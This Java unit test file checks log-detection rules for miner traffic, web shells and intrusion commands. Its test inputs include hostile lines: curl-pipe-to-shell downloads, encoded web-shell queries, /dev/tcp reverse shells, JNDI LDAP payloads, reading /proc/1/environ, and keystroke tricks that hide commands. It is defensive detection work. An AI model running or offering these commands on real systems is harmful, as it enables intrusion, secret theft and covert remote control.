package org.ephemera.analyze.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ephemera.analyze.command.RuleFixture.at;

import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.Indicator;
import org.ephemera.analyze.model.LogLine;
import org.ephemera.analyze.model.Severity;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class LogRulesTest {
    private static final String JOB = "net      new job from pool.example:3333 diff 120001 algo rx/0";

    private final LogRules rules = new LogRules();

    @Test
    void groupsRepeatedLines() {
        for (int i = 0; i < 200_000; i++) {
            line("app", i, JOB);
        }
        line("other", 3, JOB);
        CommandFindings found = rules.findings();
        assertThat(found.findings()).extracting(Finding::subject).containsExactly("app", "other");
        Finding first = found.findings().getFirst();
        assertThat(first.rule().id()).isEqualTo("LOG-001");
        assertThat(first.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(first.because())
                .isEqualTo("log: new job from pool.example:3333 diff 120001 algo rx/0"
                        + " (the first of 200000 lines, from 1970-01-01T00:00:00Z to 1970-01-03T07:33:19Z)");
        assertThat(first.evidence()).hasSize(10);
        assertThat(first.at()).contains(Instant.EPOCH);
        assertThat(found.findings().get(1).because()).doesNotContain("the first of");
        assertThat(found.indicators()).extracting(Indicator::value).containsExactly("pool.example");
        assertThat(found.gaps()).isEmpty();
    }

    @Test
    void reportsFirstAndLastTimeInAnyOrder() {
        line("app", 50, JOB);
        rules.accept(new LogLine("app", "", Optional.empty(), JOB, at("log.json", "/events/7")));
        line("app", 10, JOB);
        assertThat(rules.findings().findings().getFirst().because())
                .contains("the first of 3 lines, from 1970-01-01T00:00:10Z to 1970-01-01T00:00:50Z");
    }

    @Test
    void treatsRequestAsAttempt() {
        line("web", 1, "\"GET /cgi?x=;curl http://203.0.113.7/m|sh HTTP/1.1\" 404");
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-001 medium", "LOG-002 medium");
        assertThat(rules.findings().findings().getFirst().because()).contains("an attempt");
        assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
    }

    /** A web shell receives its command in the query, which servers log as it was sent; also encoded twice. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"GET /a/.thumb.php?c=curl%20-s%20http://203.0.113.7/m%7Csh HTTP/1.1\" 200 31",
                "\"GET /a/.thumb.php?c=curl+-s+http%3a%2f%2f203.0.113.7%2fm+%7c+sh HTTP/1.1\" 200 31",
                "\"GET /a/.thumb.php?c=curl%2520-s%2520http://203.0.113.7/m%257Csh HTTP/1.1\" 200 31",
            })
    void decodesCommandInRequest(String entry) {
        line("web", 1, entry);
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .contains("CMD-001 medium");
        assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\"GET /search?q=sh%20curl%20pipe HTTP/1.1\" 200 31", "progress 45%", "100%ab 5%2", "%%%zz"})
    void ignoresOtherPercentSigns(String entry) {
        line("web", 1, entry);
        assertThat(rules.findings().findings()).isEmpty();
    }

    /** Messages of the Stratum protocol, as an agent or a network sensor logs them. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"worker/2.5\"]} | NET-001 high",
                "payload={\\\"method\\\":\\\"eth_submitLogin\\\",\\\"params\\\":[\\\"0x0\\\"]} | NET-001 high",
                "{\"method\":\"login\",\"params\":{\"login\":\"w\",\"pass\":\"x\",\"agent\":\"m/6\"}} | NET-001 high",
                "mining.subscribe is a method of Stratum | ''",
                "{\"method\":\"login\",\"user\":\"jane\"} | ''",
                "connected to 203.0.113.7:3333 | ''",
            })
    void reportsHandshakeOfMiner(String message, String expected) {
        line("app", 1, message);
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .isEqualTo(expected.isEmpty() ? List.of() : List.of(expected));
    }

    /** Bots send miner logins to every web server; the log entry quotes the request and nothing mines. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "203.0.113.1 - - [26/Nov/2026:11:52:11 +0000] \"{\\\"id\\\":1,\\\"method\\\":\\\"login\\\",\\\"params\\\":"
                        + "{\\\"login\\\":\\\"{WALLET}\\\",\\\"agent\\\":\\\"XMRig/6.15.3 (Windows NT 10.0)\\\"}}\" 400 226",
                "{\"request\":\"{\\\"method\\\":\\\"login\\\",\\\"login\\\":\\\"{WALLET}\\\",\\\"agent\\\":\\\"XMRig/6.15.3\\\"}\",\"status\":\"400\"}",
                "{\"req\":{\"method\":\"POST\",\"url\":\"/x\",\"agent\":\"XMRig/6.15.3\",\"login\":\"{WALLET}\"},\"status\":404}",
                "java.lang.IllegalArgumentException: Invalid character found in method name [{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":"
                        + "\"login\",\"params\":{\"login\":\"{WALLET}\",\"pass\":\"x\",\"agent\":\"XMRig/6.15.3\"}}]. HTTP method names must be tokens",
                "Invalid request from ip=203.0.113.1: Invalid HTTP request line: '{\"id\":1,\"method\":\"login\",\"params\":{\"login\":"
                        + "\"{WALLET}\",\"agent\":\"XMRig/6.15.3\"}}'",
                "[core:error] [client 203.0.113.1:4711] AH00126: Invalid URI in request {\"login\":\"{WALLET}\",\"agent\":\"XMRig/6.15.3\"}"
            })
    void treatsPoolLoginInServerLogAsRequest(String entry) {
        line("web", 1, entry.replace("{WALLET}", CommandSamples.WALLET));
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactlyInAnyOrder("CMD-005 medium", "LOG-001 medium");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"level\":30,\"req\":{\"method\":\"GET\",\"url\":\"/?x=;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\"}}",
                "{\"log\":\"{\\\"httpMethod\\\":\\\"GET\\\",\\\"q\\\":\\\";bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\\\"}\"}",
                "ModSecurity: Access denied. Matched against ARGS:q (Value: `;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1' ) [uri \"/\"]"
            })
    void treatsJsonAndFirewallRequestsAsAttempts(String entry) {
        line("web", 1, entry);
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-003 medium");
    }

    /** A client that sends these words did not cause the event they describe. */
    @Test
    void treatsLibraryMessageInRequestAsAttempt() {
        line("web", 1, "\"GET / HTTP/1.1\" 200 12 \"-\" \"Error looking up JNDI resource [ldap://203.0.113.7/a]\"");
        line("app", 1, "WARN Error looking up JNDI resource [ldap://203.0.113.7/a].");
        assertThat(rules.findings().findings())
                .extracting(f ->
                        f.subject() + " " + f.rule().id() + " " + f.severity().word())
                .containsExactly("web LOG-002 medium", "app LOG-002 high");
    }

    /** A shell with tracing ran the printed command; no client requested it. */
    @Test
    void doesNotTreatTracedCommandAsRequest() {
        line("app", 1, "+ curl -H 'X-Via: HTTP/1.1' -s http://203.0.113.9/a | sh");
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-001 high");
    }

    /** Not requests: the same shell in another kind of entry, and the own log line of a miner. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"level\":30,\"method\":\"spawn\",\"cmd\":\"bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\"}",
                "[2026-11-26 11:52:11] \"stderr\" 12 bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"
            })
    void doesNotTreatOtherEntriesAsRequests(String entry) {
        line("web", 1, entry);
        line("app", 1, " * ABOUT        XMRig/6.22.0 gcc/13.2.1");
        line(
                "net",
                1,
                "[pool.example:14433] send (501 bytes): \"{\"method\":\"login\",\"params\":{\"agent\":\"XMRig/3.1.0\"}}\"");
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactlyInAnyOrder("CMD-003 critical", "LOG-001 critical", "LOG-001 critical");
    }

    /** Any author of a log line can add the HTTP version. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                " * ABOUT        XMRig/6.22.0 gcc/13.2.1 HTTP/1",
                "net      use pool pool.example:14433 HTTP/1.1",
                "sh: connect: Connection refused: bash -i >& /dev/tcp/203.0.113.7/9001 0>&1 # HTTP/1.1",
                "running: curl -X POST -s http://203.0.113.9/a | sh; echo HTTP/1.1"
            })
    void doesNotTreatHttpVersionAloneAsRequest(String entry) {
        line("app", 1, entry);
        assertThat(rules.findings().findings()).extracting(Finding::severity).allMatch(s -> s.atLeast(Severity.HIGH));
        assertThat(rules.findings().findings()).isNotEmpty();
    }

    /** Entries without a known method, and entries of an error log. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "203.0.113.1:4711 - \"${jndi:ldap://203.0.113.7/a} HTTP/1.1\" 400 Bad Request",
                "[error] 7#7: *1 open() failed, client: 203.0.113.1, request: \"${jndi:ldap://203.0.113.7/a} HTTP/1.0\", host: \"x\"",
                "203.0.113.1 PROPFIND ${jndi:ldap://203.0.113.7/a} HTTP/1.1"
            })
    void treatsTextQuotedByServerAsRequest(String entry) {
        line("web", 1, entry);
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("LOG-002 medium");
    }

    /** Recorded keystrokes and the resulting text. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh",
                "# curk\b \bl -s http://203.0.113.9/x | sh",
                "\u001b[?2004h# curk\b\u001b[Kl -s http://203.0.113.9/x | sh\u001b[?2004l\r",
                "# xcurl -s http://203.0.113.9/x | sh\u001b[34D\u001b[P",
                "# xcurl -s http://203.0.113.9/x | sh\u001b[34D\u001b[6C\u001b[6D\u001b[P",
                "# url -s http://203.0.113.9/x | sh"
                        + "\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b" + "\u001b[1@c"
            })
    void appliesTerminalEditing(String recorded) {
        rules.accept(new LogLine(
                "exec session 1",
                "1",
                Optional.of(Instant.EPOCH),
                recorded,
                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
    }

    /** The more severe match counts, and the finding explains why the recording reads differently. */
    @Test
    void notesWhenOnlyEditedTextMatches() {
        rules.accept(new LogLine(
                "exec session 1",
                "1",
                Optional.of(Instant.EPOCH),
                "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh; curl -s https://get.docker.com | sh",
                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
        assertThat(rules.findings().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.rule().id() + " " + finding.severity().word()).isEqualTo("CMD-001 high");
            assertThat(finding.because())
                    .startsWith("log: curl -s http://203.0.113.9/x | sh")
                    .contains("edited in the terminal");
        });
    }

    /** Overwriting a command hides it from a reader, not from a rule. */
    @Test
    void matchesOverwrittenText() {
        rules.accept(new LogLine(
                "exec session 1",
                "1",
                Optional.of(Instant.EPOCH),
                "# curl -s http://203.0.113.9/x | sh" + "\b".repeat(40) + "# ls" + " ".repeat(40),
                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
    }

    @Test
    void doesNotTreatShellCommandAsRequest() {
        line("web", 1, "+ curl -X POST https://203.0.113.7/i | sh");
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.severity().word())
                .containsExactly("CMD-001 high");
    }

    @Test
    void distinguishesQueriesFromMiners() {
        line("dns", 1, "[INFO] 10.0.1.5:40312 - 4711 \"A IN pool.supportxmr.com. udp 39\" NOERROR");
        line("app", 2, "connecting to pool.supportxmr.com as x");
        assertThat(rules.findings().findings())
                .extracting(f -> f.rule().id() + " " + f.subject())
                .containsExactly("NET-001 dns", "CMD-005 app");
    }

    @Test
    void readsColouredLines() {
        line(
                "app",
                1,
                "\u001b[1;34mnet     \u001b[0m \u001b[35mnew job\u001b[0m from \u001b[1mpool.example:3333\u001b[0m diff \u001b[1m120001\u001b[0m");
        assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("LOG-001");
    }

    @Test
    void appliesCommandRulesToSessionText() {
        LogLine typed = new LogLine(
                "exec session 1",
                "1",
                Optional.of(Instant.EPOCH),
                "# cat /proc/1/environ",
                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message"));
        rules.accept(typed);
        line("app", 1, "cat /proc/1/environ");
        List<Finding> findings = rules.findings().findings();
        assertThat(findings)
                .extracting(f -> f.rule().id() + " " + f.subject())
                .containsExactly("CMD-010 exec session 1");
        assertThat(findings.getFirst().because()).contains("hands-on-keyboard");
    }

    @Test
    void limitsCostOfManyContainersAndMatches() {
        for (int i = 0; i < 5_000; i++) {
            line("container " + i, i, JOB + " at http://a" + i + ".example/");
        }
        CommandFindings found = rules.findings();
        assertThat(found.findings()).hasSize(2_000);
        assertThat(found.indicators()).hasSize(500);
        assertThat(found.gaps()).extracting(EvidenceGap::why).anyMatch(why -> why.startsWith("3000 "));
    }

    private void line(String container, long second, String text) {
        rules.accept(new LogLine(
                container,
                "",
                Optional.of(Instant.ofEpochSecond(second)),
                text,
                at("log.json", "/events/" + second + "/message")));
    }
}
